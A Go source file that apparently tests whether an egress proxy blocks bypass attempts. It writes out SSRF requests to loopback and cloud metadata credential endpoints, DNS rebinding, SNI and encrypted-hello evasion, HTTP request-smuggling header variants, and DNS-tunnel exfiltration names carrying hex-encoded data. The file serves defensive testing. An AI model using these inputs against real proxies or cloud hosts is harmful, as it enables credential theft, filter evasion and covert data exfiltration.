package proof

import (
	"bufio"
	"context"
	"crypto/ecdh"
	"crypto/rand"
	"crypto/tls"
	"encoding/binary"
	"fmt"
	"io"
	"net/http"
	"strings"

	"golang.org/x/net/dns/dnsmessage"
)

// attempt is one way to try something. It returns what came back.
type attempt = func(*way, context.Context) (string, error)

// tries are all things that are tried at the proxy, in the order of the table.
func tries() []try {
	return []try{
		{"plain", "a plain request to a listed host", "", all(plain(listed))},
		{"tunnel", "TLS in a tunnel to a listed host", "", all(secure(listed, hello{name: listed}))},
		{"name", "the address of a listed name", "", all(look(listed, dnsmessage.TypeA))},
		{"unlisted", "a host that is not on the list", "egress/unlisted", all(plain(unlisted), secure(unlisted, hello{name: unlisted}),
			secure("sub."+listed, hello{name: "sub." + listed}))},
		{"port", "another port of a listed host", "egress/unlisted", all(raw("CONNECT " + listed + ":22 HTTP/1.1\r\nHost: " + listed + ":22\r\n\r\n"))},
		{"loopback", "this machine's loopback, through the proxy", anyRule, all(plain("127.0.0.1"), plain("localhost"),
			plain("2130706433"), plain("0x7f.1"), plain("[::1]"), plain("[::ffff:127.0.0.1]"), plain("0.0.0.0"))},
		{"metadata", "where machines get credentials, through the proxy", anyRule, all(raw(get("169.254.169.254", "/latest/meta-data/")),
			raw(get("metadata.google.internal", "/")), raw(get("[fd00:ec2::254]", "/")), raw(get("0251.0376.0251.0376", "/")))},
		{"rebinding", "a listed name with a forbidden address", anyRule, all(secure(rebound, hello{name: rebound}), secure(mixed, hello{name: mixed}))},
		{"sni", "another name in the TLS hello", "egress/sni", all(secure(listed, hello{name: unlisted}))},
		{"no_sni", "no name in the TLS hello", "egress/no-sni", all(secure(listed, hello{}))},
		{"ech", "an encrypted TLS hello", "egress/ech", all(secure(listed, hello{name: listed, ech: true}))},
		{"not_tls", "what is not TLS, in a tunnel", "egress/not-tls", all(opaque("GET / HTTP/1.1\r\nHost: "+listed+"\r\n\r\n"), opaque("SSH-2.0-x\r\n"))},
		{"host", "a Host field that is not the target", "egress/malformed", all(crossed(), rawAt(func(w *way) string {
			return "CONNECT " + listed + w.stage.secure + " HTTP/1.1\r\nHost: " + unlisted + w.stage.secure + "\r\n\r\n"
		}))},
		{"smuggling", "requests that can be read in two ways", "egress/malformed", smuggled()},
		{"names", "other names", "egress/unlisted", all(look(unlisted, dnsmessage.TypeA), look("sub."+listed, dnsmessage.TypeA),
			look("example.com", dnsmessage.TypeAAAA))},
		{"name_tunnel", "names that carry data", "egress/unlisted", all(look(data()+".t.verify.test", dnsmessage.TypeTXT), look(data()+"."+listed, dnsmessage.Type(10)),
			look(data()+"."+unlisted, dnsmessage.TypeCNAME))},
		{"name_rebinding", "the address of a listed name, if it is forbidden", anyRule, all(look(rebound, dnsmessage.TypeA), look(mixed, dnsmessage.TypeA))},
	}
}

func all(do ...attempt) []attempt { return do }

// get is a plain request.
func get(host, path string) string {
	return "GET http://" + host + path + " HTTP/1.1\r\nHost: " + host + "\r\nConnection: close\r\n\r\n"
}

// raw sends a request as it stands.
func raw(text string) attempt { return rawAt(func(*way) string { return text }) }

func rawAt(text func(*way) string) attempt {
	return func(w *way, ctx context.Context) (string, error) {
		conn, err := w.connect(ctx, "tcp", w.at)
		if err != nil {
			return "", fmt.Errorf("%w: %w", ErrUntried, err)
		}
		defer conn.Close()
		if _, err := io.WriteString(conn, text(w)); err != nil {
			return "", fmt.Errorf("%w: %w", ErrUntried, err)
		}
		out, err := io.ReadAll(io.LimitReader(conn, 64<<10))
		if len(out) == 0 {
			return "", fmt.Errorf("%w: the proxy does not answer: %w", ErrUntried, or(err, io.EOF))
		}
		return string(out), nil
	}
}

func or(err, otherwise error) error {
	if err != nil {
		return err
	}
	return otherwise
}

// plain asks for a page of the web server, under this name for it.
func plain(host string) attempt {
	return rawAt(func(w *way) string { return get(host+w.stage.web, "/") })
}

// crossed asks for a page with the name of another host in its Host field.
func crossed() attempt {
	return rawAt(func(w *way) string {
		return "GET http://" + listed + w.stage.web + "/ HTTP/1.1\r\nHost: " + unlisted + w.stage.web + "\r\nConnection: close\r\n\r\n"
	})
}

// smuggled are requests in which two readers see two things.
func smuggled() (out []attempt) {
	for _, odd := range []string{
		"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n", "Content-Length: 4\r\nContent-Length: 5\r\n", "Transfer-Encoding: chunked, identity\r\n",
		"Transfer-Encoding : chunked\r\n", "X: a\r\n b\r\n", "X: a\nY: b\r\n", "X: a\x00b\r\n", "Content-Length: +4\r\n", "Host: " + unlisted + "\r\n",
	} {
		out = append(out, rawAt(func(w *way) string {
			return "POST http://" + listed + w.stage.web + "/ HTTP/1.1\r\nHost: " + listed + w.stage.web + "\r\n" + odd + "Connection: close\r\n\r\n0\r\n\r\n"
		}))
	}
	return out
}

// tunnel opens one to a host, and returns it once the proxy has agreed.
func (w *way) tunnel(ctx context.Context, host string) (*stream, string, error) {
	conn, err := w.connect(ctx, "tcp", w.at)
	if err != nil {
		return nil, "", fmt.Errorf("%w: %w", ErrUntried, err)
	}
	target := host + w.stage.secure
	if _, err := fmt.Fprintf(conn, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", target, target); err != nil {
		return nil, "", fmt.Errorf("%w: %w", ErrUntried, err)
	}
	r := bufio.NewReader(conn)
	resp, err := http.ReadResponse(r, &http.Request{Method: http.MethodConnect})
	if err != nil {
		_ = conn.Close()
		return nil, "", fmt.Errorf("%w: the proxy does not answer: %w", ErrUntried, err)
	}
	if resp.StatusCode != http.StatusOK {
		_ = conn.Close()
		return nil, resp.Status, nil
	}
	return conn.(*stream), "", nil
}

// hello is what a client says first in a tunnel.
type hello struct {
	name string
	ech  bool
}

// secure asks for a page over TLS in a tunnel.
func secure(host string, h hello) attempt {
	return func(w *way, ctx context.Context) (string, error) {
		conn, status, err := w.tunnel(ctx, host)
		if err != nil || conn == nil {
			return status, err
		}
		defer conn.Close()
		c := &tls.Config{ServerName: h.name, RootCAs: w.stage.trust, InsecureSkipVerify: h.name != host, MinVersion: tls.VersionTLS12}
		if h.ech {
			if c.EncryptedClientHelloConfigList, err = echList(h.name); err != nil {
				return "", fmt.Errorf("%w: %w", ErrUntried, err)
			}
			c.MinVersion = tls.VersionTLS13 // there is no encrypted hello before
		}
		client := tls.Client(conn, c)
		if _, err := fmt.Fprintf(client, "GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", host); err != nil {
			return "", err
		}
		out, err := io.ReadAll(io.LimitReader(client, 64<<10))
		return string(out), err
	}
}

// opaque sends bytes in a tunnel that are no TLS.
func opaque(text string) attempt {
	return func(w *way, ctx context.Context) (string, error) {
		conn, status, err := w.tunnel(ctx, listed)
		if err != nil || conn == nil {
			return status, err
		}
		defer conn.Close()
		if _, err := io.WriteString(conn, text); err != nil {
			return "", err
		}
		out, err := io.ReadAll(io.LimitReader(conn, 64<<10))
		return string(out), err
	}
}

// echList makes the configuration of a server that takes encrypted hellos (RFC 9849).
func echList(public string) ([]byte, error) {
	key, err := ecdh.X25519().GenerateKey(rand.Reader)
	if err != nil {
		return nil, err
	}
	var body []byte
	put := func(n int) { body = binary.BigEndian.AppendUint16(body, uint16(n)) }
	body = append(body, 1) // its number
	put(0x20)              // DHKEM(X25519, HKDF-SHA256)
	put(len(key.PublicKey().Bytes()))
	body = append(body, key.PublicKey().Bytes()...)
	put(4)
	put(1) // HKDF-SHA256
	put(1) // AES-128-GCM
	body = append(body, 64, byte(len(public)))
	body = append(body, public...)
	put(0) // extensions
	list := binary.BigEndian.AppendUint16(nil, uint16(len(body)+4))
	list = binary.BigEndian.AppendUint16(list, 0xfe0d)
	list = binary.BigEndian.AppendUint16(list, uint16(len(body)))
	return append(list, body...), nil
}

// data is a name's part that carries what somebody wants to get out.
func data() string {
	return strings.Repeat("6b65792d6f662d", 4) + "." + strings.Repeat("7468652d6f776e6572", 3)
}
